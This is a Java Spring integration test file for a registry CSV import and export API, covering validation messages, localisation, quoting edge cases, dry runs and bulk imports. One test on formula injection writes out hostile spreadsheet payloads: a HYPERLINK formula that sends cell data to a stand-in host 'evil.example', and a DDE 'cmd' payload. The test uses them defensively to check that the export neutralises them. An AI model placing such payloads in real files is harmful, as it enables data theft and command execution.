package org.vigia.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.hasSize;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.ResultActions;
import org.vigia.IntegrationTest;
import org.vigia.alerts.LanguageGuardTests;

@IntegrationTest
class RegistryImportTests {

	static final String HEADER = "organization,unit,platform,handle,url,display_name,contact_email,purpose,language,max_silence_days,notes\n";

	@Autowired
	MockMvc mvc;

	@Autowired
	JdbcClient jdbc;

	@BeforeEach
	void emptyRegistry() {
		jdbc.sql("truncate account, unit, organization restart identity cascade").update();
	}

	ResultActions importCsv(byte[] csv, boolean dryRun) throws Exception {
		return mvc.perform(post("/api/registry/import").param("dryRun", String.valueOf(dryRun))
			.with(httpBasic("editor", "editor"))
			.contentType("text/csv")
			.content(csv));
	}

	ResultActions importCsv(String csv) throws Exception {
		return importCsv(csv.getBytes(StandardCharsets.UTF_8), false);
	}

	String export() throws Exception {
		return mvc.perform(get("/api/registry/export").with(httpBasic("viewer", "viewer")))
			.andExpect(status().isOk())
			.andExpect(header().string("Content-Disposition", containsString("vigia-registry.csv")))
			.andExpect(content().contentTypeCompatibleWith("text/csv"))
			.andReturn()
			.getResponse()
			.getContentAsString(StandardCharsets.UTF_8);
	}

	long count(String table) {
		return jdbc.sql("select count(*) from " + table).query(Long.class).single();
	}

	@Test
	void importsAGoodFileCreatingOrganizationsUnitsAndAccounts() throws Exception {
		importCsv(HEADER + """
				Ayuntamiento de Villaverde,Cultura,mastodon,@cultura@social.villaverde.example.es,,Cultura Villaverde,cultura@villaverde.example.es,Agenda cultural,es,60,
				Ayuntamiento de Villaverde,Cultura,bluesky,,https://bsky.app/profile/cultura.villaverde.example.es,,,,es,,
				ayuntamiento de villaverde,Turismo,youtube,,https://www.youtube.com/channel/UCLA_DiR1FfKNvjuUpBHmylQ,,,,,,
				Diputación de Ejemplo,,telegram,,https://t.me/s/DiputacionEjemplo,,,,,,"Canal oficial, con \"\"comillas\"\"\"
				""")
			.andExpect(status().isOk())
			.andExpect(jsonPath("$.created").value(4))
			.andExpect(jsonPath("$.updated").value(0))
			.andExpect(jsonPath("$.unchanged").value(0))
			.andExpect(jsonPath("$.organizationsCreated").value(2))
			.andExpect(jsonPath("$.unitsCreated").value(2))
			.andExpect(jsonPath("$.errors", hasSize(0)));
		assertThat(count("organization")).isEqualTo(2);
		assertThat(count("unit")).isEqualTo(2);
		var telegram = jdbc.sql("select handle, url, notes from account where platform = 'TELEGRAM'")
			.query((rs, i) -> rs.getString(1) + " " + rs.getString(2) + " " + rs.getString(3))
			.single();
		assertThat(telegram).isEqualTo("diputacionejemplo https://t.me/diputacionejemplo Canal oficial, con \"comillas\"");
	}

	@Test
	void reportsEveryBadLineWithLineColumnAndReasonAndWritesNothing() throws Exception {
		importCsv(HEADER + """
				Ayuntamiento de Villaverde,Cultura,mastodon,@cultura@social.villaverde.example.es,,,,,,,
				Ayuntamiento de Villaverde,Cultura,myspace,villaverde,,,,,,,
				Ayuntamiento de Villaverde,Cultura,x,,,,,,,,
				,Cultura,x,villaverde,,,,,,,
				Ayuntamiento de Villaverde,Cultura,instagram,villaverde,,,prensa@@villaverde,,,,
				Ayuntamiento de Villaverde,Cultura,telegram,villaverde_tg,,,,,,-3,
				Ayuntamiento de Villaverde,Cultura,x,villaverde,,,,,,,
				""")
			.andExpect(status().isUnprocessableContent())
			.andExpect(content().contentType(MediaType.APPLICATION_PROBLEM_JSON))
			.andExpect(jsonPath("$.errors", hasSize(5)))
			.andExpect(jsonPath("$.errors[0].line").value(3))
			.andExpect(jsonPath("$.errors[0].column").value("platform"))
			.andExpect(jsonPath("$.errors[0].message", containsString("'myspace' is not a known platform")))
			.andExpect(jsonPath("$.errors[1].line").value(4))
			.andExpect(jsonPath("$.errors[1].column").value("handle"))
			.andExpect(jsonPath("$.errors[2].line").value(5))
			.andExpect(jsonPath("$.errors[2].column").value("organization"))
			.andExpect(jsonPath("$.errors[3].line").value(6))
			.andExpect(jsonPath("$.errors[3].column").value("contact_email"))
			.andExpect(jsonPath("$.errors[3].message", containsString("'prensa@@villaverde'")))
			.andExpect(jsonPath("$.errors[4].line").value(7))
			.andExpect(jsonPath("$.errors[4].column").value("max_silence_days"));
		assertThat(count("organization")).isZero();
		assertThat(count("account")).isZero();
	}

	@Test
	void givesEachErrorAStableCodeForScripts() throws Exception {
		importCsv(HEADER + """
				Villaverde,,myspace,villaverde,,,,,,,
				Villaverde,,youtube,https://www.youtube.com/watch?v=1,,,,,,,
				""")
			.andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.code").value("problem.importRejected"))
			.andExpect(jsonPath("$.errors[0].code").value("input.platform.unknown"))
			.andExpect(jsonPath("$.errors[1].code").value("handle.refused"))
			.andExpect(jsonPath("$.errors[1].message", containsString("is not a YouTube channel")));
	}

	/** The report of a file with errors of every kind is written in the caller's language, with the same codes. */
	@ParameterizedTest
	@ValueSource(strings = { "es", "ca", "gl", "eu" })
	void writesTheReportInTheCallersLanguage(String language) throws Exception {
		var body = mvc.perform(post("/api/registry/import").with(httpBasic("editor", "editor"))
			.header("Accept-Language", language)
			.contentType("text/csv")
			.content((HEADER + """
					Villaverde,,myspace,villaverde,,,,,,,
					Villaverde,,x,,,,,,,,
					,Cultura,x,villaverde,,,,,,,
					Villaverde,,instagram,villaverde,,,prensa@@villaverde,,,,
					Villaverde,,telegram,villaverde_tg,,,,,,-3,
					Villaverde,,youtube,https://www.youtube.com/watch?v=1,,,,,,,
					Villaverde,,x,https://facebook.com/villaverde,,,,,,,
					Villaverde,,mastodon,villaverde,,,,,,,
					Villaverde,,bluesky,villaverde,,,,,,,
					Villaverde,,telegram,https://t.me/+abc,,,,,xx_yy_zz_1,,
					Villaverde,,feed,a b,,,,,,,
					Villaverde,,x,villaverde,https://x.com/other,,,,,,
					Villaverde,,x,villaverde,,,,,,,
					Villaverde,,x,villaverde,,,,,,,
					a,b
					""").getBytes(StandardCharsets.UTF_8)))
			.andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.errors[0].code").value("input.platform.unknown"))
			.andReturn()
			.getResponse()
			.getContentAsString(StandardCharsets.UTF_8);
		var messages = com.jayway.jsonpath.JsonPath.<java.util.List<String>>read(body, "$.errors[*].message");
		assertThat(messages).hasSizeGreaterThan(10);
		for (var message : messages) {
			LanguageGuardTests.assertNoEnglishAndNoKey(message, "import error in " + language + ": " + message);
		}
		LanguageGuardTests.assertNoEnglishAndNoKey(com.jayway.jsonpath.JsonPath.read(body, "$.detail"), "detail");
	}

	@Test
	void refusesTheSameAccountTwiceInOneFileNamingTheFirstLine() throws Exception {
		importCsv(HEADER + """
				Ayuntamiento de Villaverde,,x,VillaverdeAyto,,,,,,,
				Ayuntamiento de Villaverde,,instagram,villaverdeayto,,,,,,,
				Ayuntamiento de Villaverde,Prensa,x,,https://twitter.com/villaverdeayto/?lang=es&utm_campaign=a,,,,,,
				""")
			.andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.errors", hasSize(1)))
			.andExpect(jsonPath("$.errors[0].line").value(4))
			.andExpect(jsonPath("$.errors[0].message", containsString("already on line 2")));
		assertThat(count("account")).isZero();
	}

	@Test
	void refusesAnUnknownColumnInTheHeader() throws Exception {
		importCsv("organization,platform,hanlde\nVillaverde,x,villaverde\n")
			.andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.errors[0].line").value(1))
			.andExpect(jsonPath("$.errors[0].column").value("hanlde"))
			.andExpect(jsonPath("$.errors[1].message", containsString("'handle' or a 'url' column")));
	}

	@Test
	void acceptsAByteOrderMarkWindowsLineEndsAndAColumnSubset() throws Exception {
		var csv = "\uFEFFplatform,organization,url\r\nbluesky,Villaverde,https://bsky.app/profile/villaverde.bsky.social\r\n"
				+ "\r\nfeed,Villaverde,https://villaverde.example.es/feed/?utm_source=rss\r\n";
		importCsv(csv.getBytes(StandardCharsets.UTF_8), false).andExpect(status().isOk())
			.andExpect(jsonPath("$.created").value(2));
		assertThat(jdbc.sql("select handle from account order by handle").query(String.class).list())
			.containsExactly("villaverde.bsky.social", "villaverde.example.es/feed");
		assertThat(jdbc.sql("select name from organization").query(String.class).single()).isEqualTo("Villaverde");
	}

	@Test
	void countsLinesAsAnEditorDoesAcrossQuotedLineBreaks() throws Exception {
		var csv = HEADER + "Villaverde,,x,villaverde,,,,,,,\"first line\r\nsecond line\"\r\n"
				+ "Villaverde,,x,,,,,,,,\r\n";
		importCsv(csv).andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.errors[0].line").value(4));
	}

	@Test
	void reportsAnUnbalancedQuoteAndMismatchedFieldCounts() throws Exception {
		importCsv(HEADER + "Villaverde,,x,villaverde\n").andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.errors[0].line").value(2))
			.andExpect(jsonPath("$.errors[0].message", containsString("has 4 fields; the header has 11")));
		importCsv(HEADER + "Villaverde,,x,\"villaverde,,,,,,,\n").andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.errors[0].message", containsString("is not valid CSV")));
	}

	@Test
	void reportsAnUnclosedQuoteAtTheLineAndColumnWhereItOpensNotWhereTheParserGaveUp() throws Exception {
		importCsv(HEADER + """
				Villaverde,Cultura,x,villaverde,,"Cultura Villaverde,,,,,
				Villaverde,Cultura,instagram,villaverde,,,,,,,
				Villaverde,Deportes,bluesky,deportes.villaverde.example.es,,,,,,,
				Villaverde,Turismo,telegram,turismo_villaverde,,"Turismo ""oficial""\",,,,,
				Villaverde,Prensa,mastodon,@prensa@social.example.es,,,,,,,
				""")
			.andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.errors", hasSize(1)))
			.andExpect(jsonPath("$.errors[0].line").value(2))
			.andExpect(jsonPath("$.errors[0].column").value("display_name"))
			.andExpect(jsonPath("$.errors[0].message", containsString("is not valid CSV")))
			.andExpect(jsonPath("$.errors[0].message", containsString("runs on to line 5")));
		assertThat(count("account")).isZero();
	}

	@Test
	void reportsAQuoteLeftOpenToTheEndOfTheFileAtItsOwnLine() throws Exception {
		importCsv(HEADER + """
				Villaverde,Cultura,x,villaverde,,,,,,,
				Villaverde,Cultura,instagram,villaverde,,,,,,,"Nota sin cerrar
				Villaverde,Deportes,bluesky,deportes.villaverde.example.es,,,,,,,
				Villaverde,Prensa,mastodon,@prensa@social.example.es,,,,,,,
				""")
			.andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.errors", hasSize(1)))
			.andExpect(jsonPath("$.errors[0].line").value(3))
			.andExpect(jsonPath("$.errors[0].column").value("notes"))
			.andExpect(jsonPath("$.errors[0].message", containsString("never closed")));
	}

	@Test
	void reportsTextAfterAClosingQuoteAtTheLineOfItsRecordAfterAFieldThatSpansLines() throws Exception {
		var csv = HEADER.replace("\n", "\r\n") + "Villaverde,Cultura,x,villaverde,,,,,,,\"first line\r\nsecond line\"\r\n"
				+ "Villaverde,\"Cultura\" Norte,instagram,villaverde,,,,,,,\r\n"
				+ "Villaverde,Deportes,bluesky,deportes.villaverde.example.es,,,,,,,\r\n";
		importCsv(csv).andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.errors", hasSize(1)))
			.andExpect(jsonPath("$.errors[0].line").value(4))
			.andExpect(jsonPath("$.errors[0].column").value("unit"))
			.andExpect(jsonPath("$.errors[0].message", containsString("followed by a space")));
	}

	@Test
	void reportsABrokenQuoteInTheHeaderAtLineOne() throws Exception {
		importCsv("organization,\"platform,handle\nVillaverde,x,villaverde\nVillaverde,instagram,\"villaverde\"\n")
			.andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.errors", hasSize(1)))
			.andExpect(jsonPath("$.errors[0].line").value(1))
			.andExpect(jsonPath("$.errors[0].message", containsString("is not valid CSV")));
	}

	@Test
	void refusesAFileThatIsNotUtf8() throws Exception {
		var latin1 = (HEADER + "Diputación,,x,diputacion,,,,,,,\n").getBytes(StandardCharsets.ISO_8859_1);
		importCsv(latin1, false).andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.errors[0].line").value(2))
			.andExpect(jsonPath("$.errors[0].message", containsString("UTF-8")));
	}

	@Test
	void refusesAnEmptyFile() throws Exception {
		importCsv("").andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.errors[0].message", containsString("empty")));
	}

	@Test
	void aDryRunReportsWhatWouldHappenAndWritesNothing() throws Exception {
		importCsv((HEADER + "Villaverde,Cultura,x,villaverde,,,,,,,\n").getBytes(StandardCharsets.UTF_8), true)
			.andExpect(status().isOk())
			.andExpect(jsonPath("$.dryRun").value(true))
			.andExpect(jsonPath("$.created").value(1))
			.andExpect(jsonPath("$.organizationsCreated").value(1));
		assertThat(count("organization")).isZero();
		assertThat(count("account")).isZero();
		importCsv((HEADER + "Villaverde,Cultura,x,,,,,,,,\n").getBytes(StandardCharsets.UTF_8), true)
			.andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.dryRun").value(true));
	}

	@Test
	void aLineNamingAnExistingAccountUpdatesItAndRestoresItWhenArchived() throws Exception {
		importCsv(HEADER + "Villaverde,Cultura,x,villaverde,,,,,,,\nVillaverde,,instagram,villaverde,,,,,,,\n")
			.andExpect(status().isOk());
		jdbc.sql("update account set status = 'ARCHIVED', archived_at = now() where platform = 'INSTAGRAM'").update();
		importCsv(HEADER + "Villaverde,Turismo,x,https://x.com/Villaverde,,Villaverde,,,,,\n"
				+ "Villaverde,,instagram,villaverde,,,,,,,\n")
			.andExpect(status().isOk())
			.andExpect(jsonPath("$.created").value(0))
			.andExpect(jsonPath("$.updated").value(2))
			.andExpect(jsonPath("$.unitsCreated").value(1));
		assertThat(jdbc.sql("select count(*) from account where status = 'ACTIVE' and archived_at is null")
			.query(Long.class)
			.single()).isEqualTo(2);
		assertThat(jdbc.sql("select u.name from account a join unit u on u.id = a.unit_id where a.platform = 'X'")
			.query(String.class)
			.single()).isEqualTo("Turismo");
	}

	@Test
	void theSampleRegistryImportsExportsAndReimportsAsANoOp() throws Exception {
		var sample = Files.readAllBytes(Path.of("config/registry-sample.csv"));
		long lines = new String(sample, StandardCharsets.UTF_8).lines().filter(l -> !l.isBlank()).count() - 1;
		importCsv(sample, false).andExpect(status().isOk())
			.andExpect(jsonPath("$.created").value(lines))
			.andExpect(jsonPath("$.errors", hasSize(0)));

		var exported = export();
		assertThat(exported).startsWith(HEADER.strip());
		assertThat(exported.lines().count()).isEqualTo(lines + 1);

		importCsv(exported.getBytes(StandardCharsets.UTF_8), false).andExpect(status().isOk())
			.andExpect(jsonPath("$.created").value(0))
			.andExpect(jsonPath("$.updated").value(0))
			.andExpect(jsonPath("$.unchanged").value(lines));
		importCsv(sample, false).andExpect(jsonPath("$.unchanged").value(lines));
		assertThat(export()).isEqualTo(exported);
	}

	@Test
	void exportsCellsASpreadsheetWouldRunAsFormulasAsTextAndImportsTheExportBackUnchanged() throws Exception {
		importCsv(HEADER + """
				=1+1,@SUM(1+1),youtube,@canal,,"=HYPERLINK(""http://evil.example/?d=""&A1,""Ver"")",,-2+3 campaña,,,+cmd|' /C calc'!A0
				=1+1,@SUM(1+1),x,villaverde,,''=ya entrecomillado,-prensa@villaverde.example.es,,,,
				Villaverde,,youtube,,https://www.youtube.com/@villaverde,@villaverde,,,,,
				""").andExpect(status().isOk()).andExpect(jsonPath("$.created").value(3));
		var stored = """
				select o.name as organization, u.name as unit, a.handle, a.display_name, a.contact_email, a.purpose, a.notes
				from account a join organization o on o.id = a.organization_id left join unit u on u.id = a.unit_id
				order by a.id""";
		var before = jdbc.sql(stored).query().listOfRows();
		assertThat(before.getFirst().values()).containsExactly("=1+1", "@SUM(1+1)", "@canal",
				"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Ver\")", null, "-2+3 campaña", "+cmd|' /C calc'!A0");
		assertThat(before.get(1).get("display_name")).isEqualTo("'=ya entrecomillado");

		var exported = export();

		try (var parser = CSVParser.parse(exported, CSVFormat.RFC4180)) {
			for (var record : parser) {
				for (var cell : record) {
					assertThat(cell).as("line %d", parser.getCurrentLineNumber())
						.doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
						.doesNotStartWith("\t").doesNotStartWith("\r");
				}
			}
		}
		assertThat(exported).contains("'=1+1,'@SUM(1+1),youtube,'@canal,")
			.contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Ver\"\")\"")
			.contains("'+cmd|' /C calc'!A0").contains(",''=ya entrecomillado,'-prensa@villaverde.example.es,")
			.contains("Villaverde,,youtube,'@villaverde,https://www.youtube.com/@villaverde,'@villaverde,");

		importCsv(exported.getBytes(StandardCharsets.UTF_8), false).andExpect(status().isOk())
			.andExpect(jsonPath("$.created").value(0))
			.andExpect(jsonPath("$.updated").value(0))
			.andExpect(jsonPath("$.unchanged").value(3));
		assertThat(jdbc.sql(stored).query().listOfRows()).isEqualTo(before);
		assertThat(export()).isEqualTo(exported);
	}

	@Test
	void importsTenThousandAccountsInOneRequest() throws Exception {
		var csv = new StringBuilder(HEADER);
		for (int i = 0; i < 10_000; i++) {
			csv.append("Municipio ").append(i % 50).append(",Área ").append(i % 7).append(",mastodon,@cuenta")
				.append(i).append("@social.example.es,,Cuenta ").append(i).append(",prensa").append(i % 50)
				.append("@municipio.example.es,,es,,\n");
		}
		importCsv(csv.toString()).andExpect(status().isOk())
			.andExpect(jsonPath("$.created").value(10_000))
			.andExpect(jsonPath("$.organizationsCreated").value(50))
			.andExpect(jsonPath("$.unitsCreated").value(350));
		assertThat(count("account")).isEqualTo(10_000);
		importCsv(csv.toString()).andExpect(status().isOk()).andExpect(jsonPath("$.unchanged").value(10_000));
		assertThat(export().lines().count()).isEqualTo(10_001);
	}

}
